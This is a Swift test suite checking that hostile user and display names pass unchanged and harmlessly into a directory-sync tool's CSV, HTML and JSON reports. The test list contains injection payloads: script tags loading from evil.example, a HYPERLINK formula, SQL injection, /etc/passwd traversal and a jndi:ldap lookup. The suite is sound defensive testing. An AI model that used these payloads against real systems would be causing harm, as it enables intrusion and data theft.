// SPDX-License-Identifier: Apache-2.0
import Foundation
import TestSupport
import Testing

/// Display names and user names are written by whoever can edit them.
@Suite struct `Hostile text passes through unchanged and harmless` {
  static let names: [String] = [
    "<script>alert(1)</script>", "</ScRiPt><sCrIpT src=//evil.example>",
    "\"><img src=x onerror=a()>",
    "x\"\u{301} onmouseover=alert(1)", "' autofocus onfocus=alert(1) '", "</title><svg/onload=a()>",
    "<\u{301}script>alert(1)</script>", "&lt;b&gt; &amp;", "=HYPERLINK(\"http://evil.example\")",
    "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "''twice", "'=1+1", "\u{FF1D}1+1", " =1+1", "\t=1+1",
    "\u{200B}=1+1", "comma, \"quote\"; semicolon", "line\r\nbreak", "line\nfeed", "\rreturn",
    "\u{1B}[31mred\u{1B}[0m", "\u{1}\u{2}\u{7}\u{8}\u{7F}\u{85}", "\u{202E}gpj.exe", "e\u{301}",
    "\u{FEFF}mark", "\u{1F469}\u{200D}\u{1F4BB}", "'; DROP TABLE match; --", "../../etc/passwd",
    "${jndi:ldap://evil.example}", "{{7*7}}", "\u{FFFD}\u{10FFFF}", "NULL", " ", "'",
    String(repeating: "long name ", count: 1000), String(repeating: "\u{1F689}", count: 10_000),
  ]

  /// One user for each name, who has it as display name on both sides; and four with such names
  /// as user name.
  func directory() -> SmallDirectory {
    var directory = SmallDirectory()
    directory.local = []
    directory.entra = []
    for (index, name) in Self.names.enumerated() {
      let person = SmallDirectory.Person(key: "u\(index)", given: "Uma", family: "Voss\(index)")
      var local = SmallDirectory.localUser(person)
      var entra = SmallDirectory.entraUser(person)
      local["DisplayName"] = .string(name)
      entra["displayName"] = .string(name)
      if index % 3 == 0, name.utf8.count < 100 { local["UserName"] = .string(name) }
      if index % 4 == 0 { entra["userType"] = nil }
      if index % 5 == 0 { entra["givenName"] = .string(name) }
      directory.local.append(local)
      directory.entra.append(entra)
    }
    directory.settings = "federation: {scim: {scope: all}}"
    return directory
  }

  func expectSameBytes(_ cells: [String], _ texts: [String], _ what: Comment) {
    #expect(cells.count == texts.count, what)
    for (cell, text) in zip(cells, texts) {
      let read = TextTable.unguarded(cell)
      #expect(read.utf8.elementsEqual(text.utf8), what)
    }
  }

  @Test(.timeLimit(.minutes(30)))
  func `Tables of the report give back what the database holds, byte for byte`() throws {
    let folder = try directory().workspace()
    try folder.run()
    let users = try folder.report("users.csv")
    expectSameBytes(
      try users.column("aws_display_name"),
      Self.names,
      "users.csv: aws_display_name"
    )
    let stored = try folder.rows(
      "SELECT user_name, display_name, user_id FROM aws_user ORDER BY row"
    )
    expectSameBytes(
      try users.column("aws_user_name"),
      stored.map { $0[0] ?? "" },
      "users.csv: aws_user_name"
    )
    for (name, row) in zip(Self.names, stored) {
      #expect(row[1]?.utf8.elementsEqual(name.utf8) == true, "aws_user")
    }
    let findings = try folder.rows(
      "SELECT coalesce(local_value, ''), coalesce(entra_value, ''), message FROM finding ORDER BY id"
    )
    #expect(!findings.isEmpty)
    let table = try folder.report("findings.csv")
    for (index, column) in ["aws_value", "entra_value", "message"].enumerated() {
      expectSameBytes(
        try table.column(column),
        findings.map { $0[index] ?? "" },
        "findings.csv: \(column)"
      )
    }
    for name in ["batches.csv", "operations.csv", "review.csv", "decisions-template.csv"] {
      _ = try folder.report(name)
    }
  }

  @Test(.timeLimit(.minutes(30)))
  func `No cell of any table can be taken for a formula`() throws {
    let folder = try directory().workspace()
    try folder.run()
    let dangerous = "=+-@\t\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars
    let tables = [
      "users.csv", "findings.csv", "batches.csv", "operations.csv", "review.csv",
      "decisions-template.csv",
    ]
    for name in tables {
      for cell in try folder.report(name).records.joined() {
        let first = cell.unicodeScalars.first { $0 != " " && $0 != "\u{200B}" && $0 != "\u{FEFF}" }
        #expect(first.map { !dangerous.contains($0) } ?? true, "\(name)")
      }
    }
  }

  /// The names of all elements and attributes of a page, as a browser would find them: after "<"
  /// and a letter comes a name, up to ">" come attributes, whose values stand in quotes.
  func markup(of page: String) -> Set<String> {
    let scalars = Array(page.unicodeScalars)
    var found: Set<String> = []
    var index = 0
    while index < scalars.count {
      index += 1
      guard scalars[index - 1] == "<", index < scalars.count else { continue }
      var tag = String.UnicodeScalarView()
      var quote: Unicode.Scalar?
      while index < scalars.count, quote != nil || scalars[index] != ">" {
        let scalar = scalars[index]
        if scalar == quote {
          quote = nil
        } else if quote == nil, scalar == "\"" || scalar == "'" {
          quote = scalar
        } else if quote == nil {
          tag.append(scalar)
        }
        index += 1
      }
      let words = tag.split { " \n\t/=".unicodeScalars.contains($0) }.map { String($0) }
      guard let name = words.first else { continue }
      found.insert("<\(name.lowercased())>")
      found.formUnion(words.dropFirst().map { $0.lowercased() })
    }
    return found
  }

  /// The page without what stands between script tags, and that.
  private func scriptApart(_ page: String) -> (rest: String, scripts: [String]) {
    let parts = page.components(separatedBy: "<script>")
    var (rest, scripts) = (parts[0], [String]())
    for part in parts.dropFirst() {
      let ends = part.components(separatedBy: "</script>")
      scripts.append(ends[0])
      rest += ends.dropFirst().joined(separator: "</script>")
    }
    return (rest, scripts)
  }

  @Test(.timeLimit(.minutes(30)))
  func `The page holds no element and no attribute that a name brought`() throws {
    let folder = try directory().workspace()
    try folder.run()
    let plain = try WorkspaceFolder.acme(chunkSize: 1000)
    try plain.run()
    let pages = (hostile: scriptApart(try folder.page()), plain: scriptApart(try plain.page()))
    // The only scripts are our own, and names have no say in them.
    #expect(pages.hostile.scripts == pages.plain.scripts)
    #expect(pages.plain.scripts.count == 2)
    let (markup, known) = (markup(of: pages.hostile.rest), markup(of: pages.plain.rest))
    #expect(known.contains("<table>"))
    #expect(markup.subtracting(known).isEmpty)
    #expect(known.isDisjoint(with: ["<script>", "<img>", "<iframe>", "<form>", "src"]))
    #expect(!known.contains { $0.hasPrefix("on") })
  }

  @Test(.timeLimit(.minutes(30)))
  func `The summary is JSON whatever people are called`() throws {
    let folder = try directory().workspace()
    try folder.run()
    let data = try Data(contentsOf: folder.reportFolder().appendingPathComponent("summary.json"))
    #expect(try JSONSerialization.jsonObject(with: data) is [String: Any])
  }

  @Test(.timeLimit(.minutes(30)))
  func `A NUL within a name does not cut it off`() throws {
    var directory = SmallDirectory()
    directory.local[0]["DisplayName"] = "Ada\u{0}Moreau"
    let folder = try directory.workspace()
    // Refused or kept whole: both are honest, half a name is not.
    guard (try? folder.run()) != nil else { return }
    let name = try folder.report("users.csv").column("aws_display_name").first
    #expect(name?.utf8.elementsEqual("Ada\u{0}Moreau".utf8) == true)
  }
}
